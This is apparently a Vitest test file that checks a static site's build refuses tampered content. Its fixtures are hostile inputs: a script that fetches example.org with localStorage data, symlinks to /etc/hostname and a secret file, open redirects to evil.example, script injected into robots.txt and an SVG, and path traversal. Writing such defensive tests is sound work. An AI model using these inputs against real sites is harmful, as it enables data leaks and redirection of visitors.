/**
 * Nothing reaches the site's origin unchecked: the attacks of the security review, each on a copy
 * of the fixture site (content build) or a small built folder (the build's last check), refused
 * with the exact message and nothing published.
 */
import { spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runContentBuild } from '../../scripts/build-content';
import { copyImages, recordFile, writeRecord, type BuildRecord } from '../../scripts/build/build-record';
import { checkDist } from '../../scripts/build/check-dist';
import { GENERATED_FOLDER_MESSAGE } from '../../scripts/content/public-files';
import { LINK_MESSAGE } from '../../scripts/content/sources';
import { requestedCopy } from '../../scripts/dev/generated-images';

const PROJECT = path.resolve(import.meta.dirname, '../..');
const SITE = path.join(PROJECT, 'tests/fixtures/site');
let root: string;

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'agia-published-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('the content check', () => {
  beforeEach(() => {
    cpSync(path.join(SITE, 'content'), path.join(root, 'content'), { recursive: true });
    cpSync(path.join(SITE, 'public'), path.join(root, 'public'), { recursive: true });
  });

  async function refused(): Promise<string[]> {
    const cache = path.join(root, 'cache');
    const report = await runContentBuild(root, { write: true, today: '2026-11-22', imageCache: cache });
    expect(existsSync(path.join(root, '.generated'))).toBe(false);
    expect(existsSync(cache)).toBe(false);
    expect(report).not.toBeNull();
    return report!.split('\n').filter((line) => line.startsWith('public/'));
  }

  it('refuses by name every file committed under public/_img/ (a page and its script)', async () => {
    mkdirSync(path.join(root, 'public/_img'));
    writeFileSync(path.join(root, 'public/_img/evil.html'), '<script src="evil.js"></script>');
    writeFileSync(
      path.join(root, 'public/_img/evil.js'),
      'fetch("https://example.org/?" + localStorage.length)',
    );
    expect(await refused()).toEqual([
      `public/_img/evil.html ${GENERATED_FOLDER_MESSAGE}`,
      `public/_img/evil.js ${GENERATED_FOLDER_MESSAGE}`,
    ]);
    expect(GENERATED_FOLDER_MESSAGE).toBe(
      "is in public/_img/, where nothing may be committed: the build makes the site's resized photos itself, outside public/. Delete this file (and the folder)",
    );
  });

  it('refuses by name every file under the folders the build fills with scripts', async () => {
    for (const folder of ['assets', 'pagefind', 'admin', 'static-loader-data']) {
      mkdirSync(path.join(root, 'public', folder));
      // A valid image still counts: the folder, not the file, is wrong.
      cpSync(path.join(SITE, 'public/logo.svg'), path.join(root, 'public', folder, 'logo.svg'));
    }
    expect(await refused()).toEqual(
      ['admin', 'assets', 'pagefind', 'static-loader-data'].map(
        (folder) =>
          `public/${folder}/logo.svg is in public/${folder}/, a folder the build fills with the site's own scripts, where nothing may be put by hand: move a photo to public/images/ and a PDF to public/documents/, then delete this file`,
      ),
    );
  });

  it('refuses those folders whatever the case of their names (hosts may ignore case)', async () => {
    for (const folder of ['Assets', 'ADMIN', 'PageFind', 'Static-Loader-Data', '_IMG']) {
      mkdirSync(path.join(root, 'public', folder, 'deep'), { recursive: true });
      cpSync(path.join(SITE, 'public/logo.svg'), path.join(root, 'public', folder, 'deep/logo.svg'));
    }
    expect(await refused()).toEqual([
      `public/_IMG/deep/logo.svg ${GENERATED_FOLDER_MESSAGE}`,
      ...['ADMIN', 'Assets', 'PageFind', 'Static-Loader-Data'].map(
        (folder) =>
          `public/${folder}/deep/logo.svg is in public/${folder}/, a folder the build fills with the site's own scripts, where nothing may be put by hand: move a photo to public/images/ and a PDF to public/documents/, then delete this file`,
      ),
    ]);
  });

  it('refuses a drawing outside public/images/ but for the site logo and icon: only there is it sandboxed', async () => {
    mkdirSync(path.join(root, 'public/Images'));
    for (const file of ['badge.svg', 'documents/map.svg', 'Images/chart.svg'])
      cpSync(path.join(SITE, 'public/logo.svg'), path.join(root, 'public', file));
    const place = (file: string, moved: string) =>
      `${file} is a drawing (SVG) outside public/images/, the only folder where the site keeps a drawing opened on its own from running anything: move it to public/images/${moved} and write its path as /images/${moved}`;
    const problems = await refused();
    expect(problems.filter((line) => line.includes('(SVG)'))).toEqual([
      place('public/badge.svg', 'badge.svg'),
      place('public/documents/map.svg', 'map.svg'),
      place('public/Images/chart.svg', 'chart.svg'),
    ]);
    // The fixture's logo, icon and drawings under public/images/ pass.
    expect(problems.filter((line) => /^public\/(logo|favicon)\.svg|^public\/images\//.test(line))).toEqual(
      [],
    );
  });

  it('refuses a committed copy that would replace a real photo, and a link there', async () => {
    mkdirSync(path.join(root, 'public/_img'));
    writeFileSync(
      path.join(root, 'public/_img/seminar-cebu-1-eb0cad55c7-480.webp'),
      '<html><body>not a photo</body></html>',
    );
    symlinkSync('/etc/hostname', path.join(root, 'public/_img/host.txt'));
    expect(await refused()).toEqual([
      `public/_img/host.txt ${GENERATED_FOLDER_MESSAGE}`,
      `public/_img/seminar-cebu-1-eb0cad55c7-480.webp ${GENERATED_FOLDER_MESSAGE}`,
    ]);
  });

  it('names links under content/ and public/ by their own path, never reading through them', async () => {
    const secret = path.join(root, 'secret.txt');
    writeFileSync(secret, 'title: TOP SECRET of the build machine\n');
    symlinkSync(secret, path.join(root, 'content/news/leak.md'));
    symlinkSync(secret, path.join(root, 'content/site.yaml.bak'));
    rmSync(path.join(root, 'content/site.yaml'));
    symlinkSync(secret, path.join(root, 'content/site.yaml'));
    symlinkSync(path.join(root, 'content/news'), path.join(root, 'content/mirror'));
    symlinkSync(secret, path.join(root, 'public/images/leak.png'));
    const report = (await runContentBuild(root, {
      write: true,
      today: '2026-11-22',
      imageCache: path.join(root, 'cache'),
    }))!;
    expect(report).not.toContain('TOP SECRET');
    const lines = report.split('\n').filter((line) => /^(content|public)\//.test(line));
    expect(lines).toEqual([
      `content/mirror ${LINK_MESSAGE}`,
      `content/news/leak.md ${LINK_MESSAGE}`,
      `content/site.yaml ${LINK_MESSAGE}`,
      `content/site.yaml.bak ${LINK_MESSAGE}`,
      'public/images/leak.png is a link or a special file: put the file itself in public/',
    ]);
    expect(LINK_MESSAGE).toBe(
      'is a link (shortcut) to another file or folder, which the build never follows: put the file itself here',
    );
    expect(existsSync(path.join(root, '.generated'))).toBe(false);
  });

  it('checks the host files at the top of public/: redirects only redirect', async () => {
    writeFileSync(
      path.join(root, 'public/_redirects'),
      '# moved pages\n/old-news /news 301\n/go http://evil.example/ 302\n/x //evil.example/ 301\n/a /b 301 extra\n',
    );
    writeFileSync(path.join(root, 'public/CNAME'), 'www.agia.org.ph\nevil.example\n');
    writeFileSync(
      path.join(root, 'public/robots.txt'),
      'User-agent: *\nDisallow: /admin\n<script>alert(1)</script>\n',
    );
    expect(await refused()).toEqual([
      'public/_redirects:3 has a rule "/go http://evil.example/ 302" whose target is not a path of this site: a rule may only send visitors to another page of this site, written from the site root with a single / (for example "/news"); link another site from a page instead',
      'public/_redirects:4 has a rule "/x //evil.example/ 301" whose target is not a path of this site: a rule may only send visitors to another page of this site, written from the site root with a single / (for example "/news"); link another site from a page instead',
      'public/_redirects:5 has a rule "/a /b 301 extra" that is not "from-path to-path [status]": write one rule per line, for example "/old-page /new-page 301"',
      'public/CNAME:1 must hold exactly one host name (for example www.agia.org.ph) and nothing else',
      'public/robots.txt:3 has a line "<script>alert(1)</script>" that is not a crawler rule (User-agent, Allow, Disallow, Sitemap or Crawl-delay followed by a value)',
    ]);
  });

  it('accepts host files that only do their job', async () => {
    writeFileSync(path.join(root, 'public/_redirects'), '/old-news /news 301\n/about-us /about\n');
    writeFileSync(path.join(root, 'public/CNAME'), 'www.agia.org.ph\n');
    const report = await runContentBuild(root, {
      write: false,
      today: '2026-11-22',
      imageCache: path.join(root, 'cache'),
    });
    expect(report).toBeNull();
  });

  it('records the public files it saw, with their hashes, and the copies it made', async () => {
    const cache = path.join(root, 'cache');
    const generated = path.join(root, 'generated');
    expect(
      await runContentBuild(root, {
        write: true,
        today: '2026-11-22',
        imageCache: cache,
        generatedDir: generated,
      }),
    ).toBeNull();
    const module = readFileSync(path.join(generated, 'published-files.ts'), 'utf8');
    expect(module).toContain('"favicon.svg":"');
    expect(module).toMatch(/"seminar-cebu-1-[0-9a-f]{10}-480\.webp"/);
    expect(existsSync(path.join(root, 'public/_img'))).toBe(false);
  });
});

describe('the built site allow-list', () => {
  const record: BuildRecord = {
    pages: ['index.html', 'news.html', '404.html'],
    images: ['photo-0123456789-480.webp'],
    publicFiles: { 'logo.svg': '' },
  };
  let dist: string;

  beforeEach(async () => {
    dist = path.join(root, 'dist');
    mkdirSync(path.join(dist, 'assets'), { recursive: true });
    mkdirSync(path.join(dist, '_img'));
    mkdirSync(path.join(dist, 'admin'));
    for (const page of record.pages) writeFileSync(path.join(dist, page), '<!doctype html>');
    writeFileSync(path.join(dist, 'admin/index.html'), '<!doctype html>');
    writeFileSync(path.join(dist, 'assets/app-D1JCXHZy.js'), '');
    writeFileSync(path.join(dist, 'sitemap.xml'), '');
    writeFileSync(path.join(dist, '_img/photo-0123456789-480.webp'), 'RIFF....WEBP');
    writeFileSync(path.join(dist, 'logo.svg'), '<svg/>');
    const { createHash } = await import('node:crypto');
    record.publicFiles['logo.svg'] = createHash('sha256').update('<svg/>').digest('hex');
    await writeRecord(root, dist, record);
  });

  it('passes a folder holding only what the build made and the content check saw', async () => {
    expect(await checkDist(root, dist)).toEqual([]);
  });

  it('names each file the build did not make: a page, a script, a link, an unrecorded copy, a changed file', async () => {
    writeFileSync(path.join(dist, '_img/evil.html'), '<script src="evil.js"></script>');
    writeFileSync(path.join(dist, '_img/evil.js'), 'alert(1)');
    symlinkSync('/etc/hostname', path.join(dist, 'hostname.txt'));
    writeFileSync(path.join(dist, '_img/seminar-0123456789-960.webp'), 'RIFF....WEBP');
    writeFileSync(path.join(dist, 'logo.svg'), '<svg><script>alert(1)</script></svg>');
    expect(await checkDist(root, dist)).toEqual([
      "dist/_img/evil.html: is an HTML file the build did not prerender: only the site's pages, 404.html and admin/index.html may be published",
      'dist/_img/evil.js: is a script outside the folders the build puts scripts in (assets/, admin/, pagefind/)',
      'dist/_img/seminar-0123456789-960.webp: is a file the build did not make and the content check did not see',
      'dist/hostname.txt: is a symbolic link; a built site holds only the files themselves (the build follows no links)',
      'dist/logo.svg: differs from public/logo.svg as the content check saw it',
    ]);
  });

  it('fails the build and removes the folder, naming the file', async () => {
    await writeRecord(PROJECT, dist, record);
    writeFileSync(path.join(dist, 'evil.html'), '<script>alert(1)</script>');
    const run = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/build/check-dist.ts'], {
      cwd: PROJECT,
      env: { ...process.env, OUT_DIR: dist },
      encoding: 'utf8',
    });
    expect(run.status).toBe(1);
    const outName = path.relative(PROJECT, dist);
    expect(run.stderr).toBe(
      [
        'The built site holds a file it may not publish:',
        `${outName}/evil.html: is an HTML file the build did not prerender: only the site's pages, 404.html and admin/index.html may be published`,
        '',
        `The build failed; ${outName}/ is removed.`,
        '',
      ].join('\n'),
    );
    expect(existsSync(dist)).toBe(false);
    rmSync(recordFile(PROJECT, dist), { force: true });
  });
});

describe('the photo copies', () => {
  it('are copied from the cache only when their name is one the build makes and the file is the image it says', async () => {
    const cache = path.join(root, 'cache');
    const out = path.join(root, 'out');
    mkdirSync(cache);
    await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } })
      .webp()
      .toFile(path.join(cache, 'photo-0123456789-480.webp'));
    await copyImages(cache, out, ['photo-0123456789-480.webp']);
    expect(existsSync(path.join(out, '_img/photo-0123456789-480.webp'))).toBe(true);
    await expect(copyImages(cache, out, ['evil.html'])).rejects.toThrow(
      'The photo copy "evil.html" has a name the content build never makes.',
    );
    writeFileSync(path.join(cache, 'photo-0123456789-960.webp'), '<html></html>');
    await expect(copyImages(cache, out, ['photo-0123456789-960.webp'])).rejects.toThrow(
      `The photo copy photo-0123456789-960.webp in ${cache} is not the image its name says: run npm run content:build again.`,
    );
    symlinkSync('/etc/hostname', path.join(cache, 'host-0123456789-480.png'));
    await expect(copyImages(cache, out, ['host-0123456789-480.png'])).rejects.toThrow(
      `The photo copy host-0123456789-480.png is missing from ${cache} (or is not a plain file): run npm run content:build again.`,
    );
    expect(existsSync(path.join(out, '_img/host-0123456789-480.png'))).toBe(false);
  });

  it('are served in development at the addresses the built site has them, under the base path', () => {
    expect(requestedCopy('/_img/photo-0123456789-480.webp', '/')).toBe('photo-0123456789-480.webp');
    expect(requestedCopy('/agia/_img/photo-0123456789-480.webp?v=1', '/agia/')).toBe(
      'photo-0123456789-480.webp',
    );
    expect(requestedCopy('/_img/photo-0123456789-480.webp', '/agia/')).toBeNull();
    expect(requestedCopy('/_img/evil.html', '/')).toBeNull();
    expect(requestedCopy('/_img/../../etc/hostname', '/')).toBeNull();
  });
});
